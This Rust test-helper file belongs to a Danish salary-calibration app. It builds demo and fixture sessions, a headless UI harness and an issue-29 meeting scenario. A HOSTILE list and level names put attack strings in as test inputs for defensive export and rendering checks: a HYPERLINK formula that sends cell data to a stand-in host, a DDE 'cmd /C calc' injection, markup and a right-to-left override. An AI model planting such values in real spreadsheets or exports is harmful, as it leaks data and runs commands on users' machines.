//! Shared by the tests: the demo, the demo with hostile names in every text a user can
//! type, and the real app in a kittest harness.

#![allow(dead_code, clippy::unwrap_used)]

pub mod rules;

use kalibrer::model::Session;

/// Names that would run as a formula, render as markup, expand as a placeholder or turn
/// the text around them right to left.
pub const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"http://x/?d=\"&F2;\"Klik\")",
    "+1",
    "-1",
    "@SUM(A1)",
    "<b>x</b>",
    "{{beløb}}",
    "\u{202e}Ida Holm",
    "\t=1+1",
];

/// An HR id with leading zeros.
pub const ZERO_ID: &str = "0071234";

/// The demo session, parsed.
pub fn demo() -> Session {
    kalibrer::io::parse_session(kalibrer::io::DEMO_RON).unwrap()
}

/// The demo with [`HOSTILE`] as names and units, a 40,000-character name, [`ZERO_ID`] as an
/// id, and levels named `'Kontorchef'` (next to the real Kontorchef), `History` and a
/// formula with every character Excel forbids in a sheet name.
pub fn hostile_session() -> Session {
    let mut s = demo();
    for (k, text) in HOSTILE.iter().enumerate() {
        s.managers[k].name = (*text).to_string();
        s.managers[k + HOSTILE.len()].unit = (*text).to_string();
    }
    s.managers[20].name = "Ø".repeat(40_000);
    s.managers[21].id = ZERO_ID.to_string();
    let names = ["'Kontorchef'", "History", "=cmd|' /C calc'!A0 [a]:*?/\\ og en meget lang niveaubetegnelse"];
    for (level, name) in s.levels.iter_mut().filter(|l| l.name != "Kontorchef").zip(names) {
        level.name = name.to_string();
    }
    s.organisation.name = "Styrelsen for R&D <b>&P</b>".to_string();
    s
}

/// The real app on `session` in a headless window `size` points large, after its first frames.
pub fn app_harness(session: Session, size: [f32; 2]) -> egui_kittest::Harness<'static, kalibrer::ui::KalibrerApp> {
    let mut h = egui_kittest::Harness::builder()
        .with_size(size)
        .with_max_steps(24)
        .build_eframe(move |cc| kalibrer::ui::KalibrerApp::new(cc, session.clone(), None));
    h.run();
    h
}

/// Two directors: X with Anna (20.000 kr.) and Bo (30.000 kr.), last year 25.000 kr. each;
/// Y with Carl (40.000 kr.). Direct amounts, band 0–100.000 kr., step 1.000 kr.
pub const FRAME_RON: &str = r#"(
    version: 3,
    organisation: (name: "Test", sector: Stat),
    year: 2026,
    executives: [(id: "X", name: "Xenia", title: "Direktør"), (id: "Y", name: "Yrsa", title: "Direktør")],
    levels: [(id: "L", name: "Kontorchef", rank: 1, role: Kontorchef, band: (min: "0", max: "100000"), model: Direct)],
    policies: (pool: "1000000", rounding_step: "1000", director_budgets: {BUDGET}),
    managers: [
        (id: "a", name: "Anna", level: "L", unit: "U", superior: "X", basis: Rammeaftale, base_salary: "600000", total_pay: "700000", direct_amount: Some("20000")),
        (id: "b", name: "Bo", level: "L", unit: "U", superior: "X", basis: Rammeaftale, base_salary: "600000", total_pay: "700000", direct_amount: Some("30000")),
        (id: "c", name: "Carl", level: "L", unit: "U", superior: "Y", basis: Rammeaftale, base_salary: "600000", total_pay: "700000", direct_amount: Some("40000")),
    ],
    history: {"a": {2025: "25000"}, "b": {2025: "25000"}, "c": {2025: "10000"}},
)"#;

/// [`FRAME_RON`] with `budgets` as `policies.director_budgets` (`{}` for none).
pub fn frame_session(budgets: &str) -> Session {
    kalibrer::io::parse_session(&FRAME_RON.replace("{BUDGET}", budgets)).unwrap()
}

/// Finds a manager with the table's search field (emptied first) and clicks their name.
pub fn select_by_search(h: &mut egui_kittest::Harness<'_, kalibrer::ui::KalibrerApp>, name: &str) {
    use egui_kittest::kittest::Queryable;
    h.get_by_label("Søg:").focus();
    h.run();
    if !h.state().meeting.view.filter.text.is_empty() {
        h.key_press_modifiers(egui::Modifiers::COMMAND, egui::Key::A);
        h.run();
    }
    h.get_by_label("Søg:").type_text(name);
    h.run();
    h.get_all_by_label(name).next().expect("name shown").click();
    h.run();
}

/// The demo with issue 29's meeting: KC02's 65.000 kr. (above the Kontorchef band)
/// confirmed by accepting its finding, SD01 dragged to 90.000 kr., KC05's skøn of 6.000
/// kr. justified – 1.565.000 + 31.000 + 1.000 = 1.597.000 kr. – and a pool 23.000 kr.
/// below that: 1.574.000 kr.
pub fn issue_29_meeting() -> Session {
    use kalibrer::document::{Document, Edit};
    use kalibrer::engine::finding::RuleId;
    use rust_decimal::Decimal;
    let d = Decimal::from;
    let mut s = demo();
    let kc02 = s.manager_index("KC02").unwrap();
    let kc05 = s.manager_index("KC05").unwrap();
    let sd01 = s.manager_index("SD01").unwrap();
    s.managers[kc02].model_override = Some(kalibrer::model::AmountModel::Direct);
    s.managers[kc02].direct_amount = Some(d(65_000));
    s.managers[kc02].adjustment = None;
    let mut doc = Document::new(s, None);
    doc.apply(Edit::AcceptFinding { manager: kc02, rule: RuleId::OutsideBand, why: "Særlig opgave".into() }, "DEP")
        .unwrap();
    doc.apply(Edit::SetAmount { manager: sd01, amount: d(90_000), drag: true }, "DEP").unwrap();
    doc.apply(Edit::SetJustification { manager: kc05, text: "Ekstra opgaver".into() }, "DEP").unwrap();
    let mut s = doc.session().clone();
    assert_eq!(kalibrer::engine::evaluate(&s).pool.used, d(1_597_000));
    s.policies.pool = d(1_574_000);
    s
}
